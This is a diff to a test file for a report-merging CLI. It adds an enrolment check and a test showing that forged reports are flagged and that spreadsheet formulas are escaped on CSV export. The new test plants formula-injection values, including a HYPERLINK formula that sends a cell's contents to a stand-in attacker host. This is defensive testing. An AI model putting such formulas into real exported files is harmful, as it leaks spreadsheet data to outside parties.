@@ -3,6 +3,7 @@ import { execFile } from 'node:child_process';
 import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { CLI } from '../bridge/fixtures.js';
+import { signReport } from '../../src/report/signing.js';
 import { fixtureReport, siteFixture, siteReport } from '../fixtures/national-reports.js';
 
 // report keygen → collector enroll → report sign → report merge (the collector's work offline),
@@ -25,10 +26,13 @@ t.test('keygen, enroll, sign, merge', async (t) => {
   const key = JSON.parse(keygen.stdout) as { public_key: string; key_id: string; appliance_id: string };
   t.equal(key.appliance_id, 'usmp-merge-01');
   t.equal((await cli(['-c', config, 'report', 'keygen'])).code, 2, 'an existing key is never overwritten');
-  const enroll = await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'usmp-merge-01', '--public-key', key.public_key, '--json']);
+  const withoutCode = await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'usmp-merge-01', '--public-key', key.public_key]);
+  t.equal(withoutCode.code, 2, 'a key is enrolled for an establishment, never without');
+  t.match(withoutCode.stderr, /--establishment-code/);
+  const enroll = await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'usmp-merge-01', '--public-key', key.public_key, '--establishment-code', '0990001M', '--json']);
   t.equal(enroll.code, 0, enroll.stderr);
-  t.match(JSON.parse(enroll.stdout), { key_id: key.key_id, appliance_id: 'usmp-merge-01' });
-  t.match((await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'x', '--public-key', 'not-a-key'])).stderr, /USMP_E_ENROLMENT_FILE: .*public_key must be a raw Ed25519 public key/);
+  t.match(JSON.parse(enroll.stdout), { key_id: key.key_id, appliance_id: 'usmp-merge-01', establishment_code: '0990001M' });
+  t.match((await cli(['-c', config, 'collector', 'enroll', '--appliance-id', 'x', '--public-key', 'not-a-key', '--establishment-code', '0990002M'])).stderr, /USMP_E_ENROLMENT_FILE: .*public_key must be a raw Ed25519 public key/);
 
   // a folder as it comes back from the sites: reports signed here, one from elsewhere, one broken
   const reports = join(dir, 'from-sites');
@@ -56,4 +60,28 @@ t.test('keygen, enroll, sign, merge', async (t) => {
   t.match(html.stdout, /<html lang="en">/);
   const csvRow = await cli(['report', 'render', join(reports, 'site-a', 'report.json'), '--format', 'csv', '--out', '-']);
   t.equal(csvRow.stdout.trimEnd().split('\r\n').length, 2);
+});
+
+t.test('merge without --keys: a self-signed forgery is marked in every row and the summary; no cell is a live formula', async (t) => {
+  const dir = t.testdir();
+  const reports = join(dir, 'from-anywhere');
+  mkdirSync(reports, { recursive: true });
+  // anyone can sign with a key of their own making
+  const forgery = siteReport(fixtureReport(), { ...siteFixture(7), code: '0999001A' }, 0);
+  const site = forgery['site'] as Record<string, unknown>;
+  writeFileSync(join(reports, 'forged.json'), JSON.stringify(signReport({ ...forgery, site: { ...site, establishment: '=HYPERLINK("https://attacker.invalid/?"&A1,"Forged site")', usmp: '+33 1 23', auditor: '@SUM(1+1)' } }, siteFixture(7).key)));
+  const out = join(dir, 'merged');
+  const merge = await cli(['report', 'merge', reports, '--out', out]);
+  t.equal(merge.code, 0, merge.stderr);
+  t.match(merge.stderr, /enrolment NOT checked \(no --keys\)/, 'the summary says enrolment was not checked');
+  const csv = readFileSync(join(out, 'reports.csv'), 'utf8').trimEnd().split('\r\n');
+  t.equal(csv.length, 2);
+  t.match(csv[0], /,enrolment$/);
+  t.match(csv[1], /,not checked$/, 'the row says enrolment was not checked');
+  t.match(csv[1], /,"'=HYPERLINK\(""https:/, 'a formula is written as text (OWASP: leading quote)');
+  t.match(csv[1], /,"'\+33 1 23",/);
+  t.match(csv[1], /,"'@SUM\(1\+1\)",/);
+  t.notMatch(csv[1], /,=|,"=|,\+|,@/, 'no cell starts with a formula character');
+  const json = JSON.parse(readFileSync(join(out, 'reports.json'), 'utf8')) as Array<{ enrolment: string }>;
+  t.equal(json[0]!.enrolment, 'not checked');
 });
